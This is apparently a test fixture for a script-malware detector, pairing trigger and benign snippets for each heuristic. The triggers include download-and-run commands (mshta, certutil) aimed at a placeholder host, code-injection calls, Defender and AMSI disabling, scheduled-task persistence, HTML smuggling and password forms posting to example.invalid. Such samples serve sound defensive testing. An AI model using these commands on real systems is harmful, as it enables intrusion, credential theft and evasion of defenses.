"""By heuristic: a file's name, a source that must have it, and one like it that must not."""

from __future__ import annotations

from tests.engines.scripts.samples import DATA, SAVE, shortcut

_BLOB = "<html><script>" + DATA["atob"] + SAVE["anchor"] + "</script>"
_PLAIN = "<html><script>var b=[1];" + SAVE["anchor"].replace("Invoice.zip", "notes.txt") + "</script>"

SAMPLES: dict[str, tuple[str, str | bytes, str | bytes]] = {
    "execute.shell": ("a.js", 'x=new ActiveXObject("WScript.Shell")', 'x="a wscript of shells"'),
    "execute.run": ("a.vbs", 'shell.Run "notepad"', 'run = "shell running"'),
    "execute.object": ("a.vbs", 'Set x = CreateObject("a.b")', 'x = "create object"'),
    "execute.wmi": ("a.vbs", 'Set x = GetObject("winmgmts:root")', 'Set x = GetObject("c:\\a.xls")'),
    "execute.mmc": (
        "a.ps1",
        "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application'))",
        "$a='mmc 20'",
    ),
    "execute.powershell": ("a.bat", "powershell -w hidden -c 1", "powershell -c 1"),
    "execute.shellword": ("a.bat", "cmd /c dir", "echo command"),
    "execute.tool": ("a.bat", "mshta http://example.invalid/a.hta", "echo mshta"),
    "execute.text": ("a.ps1", "iex $a", "Write-Host 'index'"),
    "execute.basic": ("a.vbs", "Execute x", 'x = "executed"'),
    "execute.start": ("a.bat", 'start "" "%TEMP%\\a.exe"', 'start "" "a.exe"'),
    "inject.memory": ("a.ps1", "$a::VirtualAlloc(0, 9)", "$a::Allocate(0, 9)"),
    "inject.assembly": (
        "a.ps1",
        "[Reflection.Assembly]::Load($b)",
        "[Reflection.Assembly]::LoadWithPartialName('System')",
    ),
    "download.powershell": ("a.ps1", "(New-Object Net.WebClient).DownloadString('x')", "$a = 'a download of strings'"),
    "download.http": ("a.vbs", 'Set h = CreateObject("MSXML2.XMLHTTP")', 'Set h = CreateObject("MSXML2.DOMDocument")'),
    "download.tool": ("a.bat", "certutil -urlcache -f http://example.invalid/a a", "certutil -hashfile a"),
    "smuggle.save": ("a.html", _BLOB, "<html><script>x(new Blob([b]))</script>"),
    "smuggle.click": ("a.html", _BLOB, _BLOB.replace("a.click", "a.clock")),
    "smuggle.payload": ("a.html", _BLOB, _PLAIN),
    "smuggle.program": ("a.html", _BLOB, _PLAIN),
    "smuggle.write": (
        "a.html",
        f"<html><script>document.write(atob('{'QUJD' * 200}'))</script>",
        "<html><script>document.write(atob('QUJD'))</script>",
    ),
    "phish.form": (
        "a.html",
        '<html><form action="https://example.invalid/a.php"><input type="password"></form>',
        '<html><form action="/login"><input type="password"></form><form action="https://example.invalid/"><input></form>',
    ),
    "phish.script": (
        "a.html",
        '<html><input type="password"><script>fetch("https://example.invalid/", {method: "POST"})</script>',
        '<html><input type="text"><script>fetch("https://example.invalid/")</script>',
    ),
    "phish.written": (
        "a.html",
        "<html><script>document.write(unescape('%3Cinput type=%22password%22%3E'))</script>",
        '<html><script>a()</script><input type="password">',
    ),
    "phish.frame": (
        "a.html",
        '<html><iframe src="https://example.invalid/" width="0" height="0"></iframe>',
        '<html><iframe src="https://example.invalid/" width="300"></iframe>',
    ),
    "phish.redirect": (
        "a.html",
        "<html><script>eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cHM6Ly9leGFtcGxlLmludmFsaWQi'))</script>",
        "<html><script>location.href='https://example.invalid'</script>",
    ),
    "change.registry": ("a.vbs", 's.RegWrite "HKCU\\a", 1', 's.RegRead "HKCU\\a"'),
    "change.task": ("a.bat", "schtasks /create /tn a /tr b", "schtasks /query"),
    "change.amsi": ("a.ps1", "$a='amsi'+'InitFailed'; $b", "$a='am'+'si'"),
    "change.defender": ("a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true", "Get-MpPreference"),
    "write.stream": ("a.vbs", 'Set s = CreateObject("ADODB.Stream")', 'Set s = CreateObject("ADODB.Connection")'),
    "write.object": (
        "a.vbs",
        'Set f = CreateObject("Scripting.FileSystemObject")',
        'Set f = CreateObject("Scripting.Dictionary")',
    ),
    "write.program": ("a.bat", "copy a %TEMP%\\a.exe", "copy a %TEMP%\\a.txt"),
    "hide.split": ("a.vbs", 'Set s = CreateObject("WScr" & "ipt.Shell")', 'Set s = CreateObject("WScript.Shell")'),
    "hide.layers": ("a.js", "eval('ale'+'rt(12345678901)')", "eval(x)"),
    "hide.base64": (
        "a.ps1",
        "$a=[Convert]::FromBase64String('aGVsbG8gd29ybGQ=')",
        "$a=[Convert]::FromBase64String($b)",
    ),
    "hide.chars": ("a.js", "x=String.fromCharCode(104,101,108,108,111,32,119,111,114)", "x=String.fromCharCode(13,10)"),
    "hide.reverse": ("a.vbs", 'x = StrReverse("olleh")', "x = StrReverse(y)"),
    "hide.replace": ("a.vbs", 'x = Replace("h#e#l#l#o", "#", "")', 'x = Replace(y, "#", "")'),
    "hide.escapes": ("a.js", "x='\\x68\\x65\\x6c\\x6c\\x6f\\x21'", "x='\\x00\\x01\\xff'"),
    "hide.carets": ("a.bat", "p^o^w^e^r^s^h^e^l^l", "echo a ^& b"),
    "hide.pieces": ("a.bat", "set a=abcdef\n%a:~1,1%%a:~2,1%%a:~3,1%%a:~4,1%", "set a=%path:~0,1%\necho %a%"),
    "hide.encoded": ("a.js", f"x='{'QUJDabc1' * 20}'", f"x='{'word ' * 40}'"),
    "hide.eval": ("a.js", "eval(a(1))", "eval('1')"),
    "hide.window": ("a.ps1", "powershell -WindowStyle Hidden", "powershell -WindowStyle Normal"),
    "hide.link": ("a.lnk", shortcut("cmd.exe", "/c a", "C:\\a.pdf"), shortcut("cmd.exe", "/c start", "C:\\a.exe")),
    "hide.environment": ("a.vbs", 'If InStr(x, "VMware") Then', 'If InStr(x, "ware") Then'),
    "see.address": ("a.vbs", 'x = "http://example.invalid/"', 'x = "http"'),
    "see.folder": ("a.bat", "echo %TEMP%", "echo temp"),
    "see.sleep": ("a.vbs", "WScript.Sleep 9", 'x = "sleep"'),
    "see.delete": ("a.vbs", "f.DeleteFile WScript.ScriptFullName", "f.DeleteFile x"),
    "see.application": ("a.hta", "<hta:application><script>a()</script>", "<hta:application><p>"),
}
